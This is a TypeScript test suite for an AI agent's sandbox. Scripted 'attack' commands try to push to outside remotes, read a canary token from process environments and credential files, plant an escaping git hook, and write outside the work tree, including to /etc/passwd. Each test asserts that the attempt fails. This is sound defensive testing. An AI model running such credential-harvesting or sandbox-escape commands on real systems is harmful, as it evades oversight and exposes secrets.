import { execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { mkdir, readdir, readFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createCommandAgent } from "../../src/adapters/agent/command/command-agent.ts";
import { openStage, type Stage } from "./agents-stage.ts";

const canary = `ghp_${randomUUID().replaceAll("-", "")}`;
const variable = "TRUEUP_TEST_TOKEN";

/** Ends with `ended`, so that an attack that never ran cannot pass for one that failed. */
async function attack(stage: Stage, script: string, read: readonly string[] = []) {
  const program = await stage.write(`attack-${randomUUID()}.sh`, `#!/bin/sh\n${script}\necho ended\n`, 0o755);
  const played = await stage.play(createCommandAgent({ argv: [program] }), { read });
  expect(played.result.transcript).toContain('{"type":"stdout","text":"ended"}');
  return played;
}

describe("[F4] an agent in its sandbox", () => {
  let stage: Stage;
  let remote: string;
  let server: Server;
  let port: number;
  let connections = 0;

  beforeAll(async () => {
    stage = await openStage();
    remote = join(stage.directory, "remote.git");
    execFileSync("git", ["init", "-q", "--bare", remote]);
    process.env[variable] = canary;
    await stage.write("home/.git-credentials", `https://me:${canary}@example.org\n`);
    await stage.write("home/.config/gh/hosts.yml", `oauth_token: ${canary}\n`);
    server = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(async () => {
    Reflect.deleteProperty(process.env, variable);
    await new Promise((resolve) => server.close(resolve));
    await stage.dispose();
  });

  test("has a local repository with the base, and no remote, hook or credential in it", async () => {
    const { result } = await attack(
      stage,
      "git log --format=%s; git status --porcelain; git remote -v; git config --list --show-origin; ls -A .git/hooks 2>&1 | wc -l",
    );
    const [subject, ...rest] = result.claim.split("\n");
    expect(subject).toBe("Base");
    expect(rest.join("\n")).not.toMatch(/remote|credential|url\.|helper|token/iu);
  });

  test("pushes nowhere: the real remote's path is not there", async () => {
    const { result } = await attack(
      stage,
      `ls ${remote} && echo SEEN; git push file://${remote} HEAD:refs/heads/mine && echo PUSHED; git push ${remote} HEAD:refs/heads/mine && echo PUSHED`,
    );
    expect(result.claim).not.toMatch(/SEEN|PUSHED/u);
    expect(await readdir(join(remote, "refs/heads"))).toEqual([]);
  });

  test("pushes nowhere over https, ssh or git: there is no route, not even to this machine", async () => {
    const urls = [
      `http://127.0.0.1:${port}/x.git`,
      `https://127.0.0.1:${port}/x.git`,
      `git://127.0.0.1:${port}/x.git`,
      "https://192.0.2.1/x.git",
      "git@192.0.2.1:x/y.git",
    ];
    const pushes = urls.map((url) => `timeout 20 git push ${url} HEAD:refs/heads/mine && echo PUSHED`);
    const connect = `node -e 'require("net").connect(${port}, "127.0.0.1").on("connect", () => console.log("CONNECTED")).on("error", (e) => console.log(e.code))'`;
    const { result } = await attack(stage, [...pushes, connect].join("\n"));
    expect(result.claim).not.toMatch(/PUSHED|CONNECTED/u);
    expect(result.claim).toMatch(/ECONNREFUSED|ENETUNREACH/u);
    expect(connections).toBe(0);
  });

  test("has a network of nothing but its own loopback", async () => {
    const { result } = await attack(
      stage,
      "cut -d: -f1 /proc/net/dev | tail -n +3 | tr -d ' '; cat /proc/net/route | tail -n +2",
    );
    expect(result.claim.split("\n").filter((line) => line !== "ended")).toEqual(["lo"]);
  });

  test("sees the parent's token in no environment, of its own or of any process", async () => {
    const { result, files } = await attack(
      stage,
      "env >seen; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' <$f >>seen 2>/dev/null; done; wc -l <seen",
      ["seen"],
    );
    expect(process.env[variable]).toBe(canary);
    expect(files["seen"]).toContain("TRUEUP_TASK_FILE=/opt/trueup/task.md");
    expect(files["seen"]).not.toContain(canary);
    expect(files["seen"]).not.toContain(variable);
    const names = (files["seen"] ?? "").split("\n").map((line) => line.split("=")[0] ?? "");
    const expected = [
      "PATH",
      "HOME",
      "TMPDIR",
      "LANG",
      "TZ",
      "GIT_TERMINAL_PROMPT",
      "TRUEUP_TASK_FILE",
      "PWD",
      "OLDPWD",
      "SHLVL",
      "_",
      "",
    ];
    expect(names.filter((name) => !expected.includes(name))).toEqual([]);
    expect(result.facts.stop).toBe("end_turn");
  });

  test("finds the token in no file: the home directory is empty and this machine's files are not there", async () => {
    const { result } = await attack(
      stage,
      `ls -A "$HOME" | wc -l; cat ${stage.directory}/home/.git-credentials && echo SEEN
for d in / /tmp /opt /etc /home /root /var /run /dev/shm; do grep -rsl -D skip --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=dev --exclude-dir=agent '${canary.slice(0, 8)}'"${canary.slice(8)}" $d && echo SEEN; done`,
    );
    expect(result.claim).not.toContain("SEEN");
    expect(result.claim.split("\n")[0]).toBe("0");
  });

  test("a commit of its own changes nothing that anyone reads, and its hooks run nowhere", async () => {
    const { files } = await attack(
      stage,
      `echo two >>a.txt; mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch ${stage.directory}/escaped' >.git/hooks/post-commit; chmod +x .git/hooks/post-commit
git commit -qam mine && git log --format=%an%n%s -1`,
      ["a.txt"],
    );
    expect(files["a.txt"]).toBe("one\ntwo\n");
    expect(await readdir(stage.directory)).not.toContain("escaped");
  });

  test("writes outside the work tree reach no file of this machine", async () => {
    const target = await stage.write("kept.txt", "kept");
    await mkdir(join(stage.directory, "outside"), { recursive: true });
    const { result } = await attack(
      stage,
      `ln -s ${stage.directory} out; echo lost >out/kept.txt; echo lost >${target}; mkdir -p ${stage.directory}/outside && echo lost >${stage.directory}/outside/x
echo lost >/usr/lost; echo lost >/opt/trueup/task.md; echo lost >/etc/passwd`,
    );
    expect(await readFile(target, "utf8")).toBe("kept");
    expect(await readdir(join(stage.directory, "outside"))).toEqual([]);
    expect(result.transcript).toContain("Read-only file system");
  });
});
